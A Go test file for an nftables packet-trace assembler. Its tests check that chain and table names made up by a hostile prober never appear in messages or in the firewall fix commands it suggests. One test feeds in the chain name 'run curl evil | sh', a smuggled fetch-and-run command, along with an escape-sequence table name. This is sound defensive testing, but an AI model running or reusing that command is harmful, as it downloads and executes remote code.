// SPDX-License-Identifier: Apache-2.0

//go:build linux

package trace

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/google/nftables"

	"github.com/http01-proxyd/http01-proxyd/pkg/prober/protocol"
	"github.com/http01-proxyd/http01-proxyd/pkg/report"
)

// TestInventedNames: of a hostile prober process, only names that the kernel has listed are used.
func TestInventedNames(t *testing.T) {
	t.Parallel()
	inet := uint8(nftables.TableFamilyINet)
	a := newAssembler([]netip.Addr{vip4}, internalPort)
	a.chains = map[chainKey]chainInfo{{inet, "filter", "input"}: {hook: input}}
	header := &protocol.TraceHeader{
		Source:      netip.AddrPortFrom(client4, 40000),
		Destination: netip.AddrPortFrom(vip4, webPort), Flags: 2,
	}
	begin := time.Now()
	a.add([]protocol.TraceRecord{
		{
			Packet: 1, Kind: protocol.TraceRule, Family: inet, Table: "filter", Chain: "run curl evil | sh", Handle: 4,
			Verdict: protocol.VerdictDrop, Header: header,
		},
		{
			Packet: 2, Kind: protocol.TraceRule, Family: inet, Table: "\x1b[31m", Chain: "input", Handle: 4,
			Verdict: protocol.VerdictContinue, Header: &protocol.TraceHeader{
				Source:      header.Source,
				Destination: header.Destination, Sequence: 1,
			},
		},
		{
			Packet: 3, Kind: protocol.TraceRule, Family: 200, Table: "filter", Chain: "input", Handle: 4,
			Verdict: protocol.VerdictDrop, Header: &protocol.TraceHeader{
				Source: header.Source, Destination: header.Destination,
				Sequence: 2,
			},
		},
		{Packet: 4, Kind: protocol.TracePolicy, Family: inet, Table: "filter", Chain: "input"}, // without a beginning
	}, begin)
	packets := a.complete(begin.Add(time.Minute))
	if len(packets) != 3 {
		t.Fatalf("%d packets", len(packets))
	}
	for _, p := range packets {
		step, _ := Deciding(p.TracedPacket)
		for _, text := range []string{p.Message, ChainName(step), RuleText(step), Fix(p.TracedPacket, internalPort)} {
			if strings.Contains(text, "curl") || strings.Contains(text, "\x1b") {
				t.Errorf("an invented name in %q", text)
			}
		}
	}
}

// TestInventedPort: no command opens another port than the VIP's and the service's.
func TestInventedPort(t *testing.T) {
	t.Parallel()
	inet := uint8(nftables.TableFamilyINet)
	for port, want := range map[uint16]string{
		22: "", 8080: "", webPort: "nft insert rule inet filter input ip daddr 192.0.2.5 tcp dport 80 accept",
		internalPort: "nft insert rule inet filter input tcp dport 8888 accept",
	} {
		a := newAssembler([]netip.Addr{vip4}, internalPort)
		a.chains = map[chainKey]chainInfo{{inet, "filter", "input"}: {hook: input}}
		record := func(chain string, verdict int32, to netip.AddrPort) protocol.TraceRecord {
			return protocol.TraceRecord{
				Packet: 1, Kind: protocol.TraceRule, Family: inet, Table: "filter", Chain: chain, Handle: 4, Verdict: verdict,
				Header: &protocol.TraceHeader{Source: netip.AddrPortFrom(client4, 40000), Destination: to, Flags: 2},
			}
		}
		begin := time.Now()
		a.add([]protocol.TraceRecord{
			record("pre", protocol.VerdictAccept, netip.AddrPortFrom(vip4, webPort)),
			record("input", protocol.VerdictDrop, netip.AddrPortFrom(netip.MustParseAddr("198.51.100.1"), port)),
		}, begin)
		packets := a.complete(begin.Add(time.Minute))
		if len(packets) != 1 || packets[0].End != report.TraceDropped || Fix(packets[0].TracedPacket, internalPort) != want {
			t.Errorf("port %d: %+v, %q", port, packets[0], Fix(packets[0].TracedPacket, internalPort))
		}
	}
}

// TestDecidingWords: comments and log prefixes of a rule decide nothing.
func TestDecidingWords(t *testing.T) {
	t.Parallel()
	for rule, want := range map[string]bool{
		"tcp dport 80 notrack": true, `counter log prefix "REJECT "`: false, `counter comment "no dnat, notrack"`: false,
		"counter": false,
	} {
		p := report.TracedPacket{End: report.TraceLost, Steps: []report.TraceStep{{
			Hook: "input", Verdict: "accept", Passed: []report.TraceRule{{Chain: "INPUT", Handle: 2, Rule: rule}},
		}}}
		if _, decided := Deciding(p); decided != want {
			t.Errorf("%s: %v", rule, decided)
		}
	}
	for rule, want := range map[string]bool{
		"dnat ip to 192.0.2.7": true, "xt target \"DNAT\"": true, "redirect to :1": true, `accept comment "dnat"`: false,
	} {
		p := report.TracedPacket{End: report.TraceDelivered, Steps: []report.TraceStep{{
			Hook: prerouting, Verdict: "accept",
			Handle: 3, Rule: rule,
		}}}
		if _, decided := Deciding(p); decided != want {
			t.Errorf("%s: %v", rule, decided)
		}
	}
}

// TestBounds: packets and steps beyond the bounds are left out.
func TestBounds(t *testing.T) {
	t.Parallel()
	a := newAssembler([]netip.Addr{vip4}, internalPort)
	begin := time.Now()
	for i := range uint32(maxPackets + 100) {
		a.add([]protocol.TraceRecord{{
			Packet: i, Kind: protocol.TracePolicy, Table: "t", Chain: "c",
			Header: &protocol.TraceHeader{
				Source:      netip.AddrPortFrom(client4, 40000),
				Destination: netip.AddrPortFrom(vip4, webPort), Sequence: i,
			},
		}}, begin)
	}
	if packets := a.complete(begin.Add(time.Minute)); len(packets) != maxPackets || len(a.byNumber) != 0 {
		t.Errorf("%d packets, %d numbers left", len(packets), len(a.byNumber))
	}
	for range maxSteps + 100 {
		a.add([]protocol.TraceRecord{{
			Packet: 1, Kind: protocol.TraceRule, Verdict: protocol.VerdictContinue, Handle: 1,
			Header: &protocol.TraceHeader{
				Source:      netip.AddrPortFrom(client4, 40000),
				Destination: netip.AddrPortFrom(vip4, webPort),
			},
		}}, begin)
	}
	for _, p := range a.complete(begin.Add(time.Minute)) {
		if len(p.Steps) > maxSteps || p.End != report.TraceUnknown {
			t.Errorf("%d steps, %s", len(p.Steps), p.End)
		}
	}
}
